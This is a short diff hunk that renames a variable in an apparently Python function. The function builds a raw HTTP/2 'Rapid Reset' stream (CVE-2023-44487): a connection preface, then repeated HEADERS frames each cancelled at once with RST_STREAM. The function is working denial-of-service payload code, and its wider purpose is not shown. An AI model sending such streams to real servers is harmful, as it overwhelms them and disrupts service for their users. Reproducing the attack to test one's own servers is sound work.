@@ -45,9 +45,9 @@ def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
 
 def resets(count: int) -> bytes:
     """Requests of HTTP/2 that are each taken back at once (CVE-2023-44487)."""
-    asked = b"\x82\x87\x84" + b"\x41\x09localhost"  # GET, https, / and the authority, as HPACK has them
+    question = b"\x82\x87\x84" + b"\x41\x09localhost"  # GET, https, / and the authority, as HPACK has them
     cancelled = struct.pack(">I", 8)
-    streams = (frame(1, 5, k, asked) + frame(3, 0, k, cancelled) for k in range(1, 2 * count, 2))
+    streams = (frame(1, 5, k, question) + frame(3, 0, k, cancelled) for k in range(1, 2 * count, 2))
     return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + b"".join(streams)
 
 
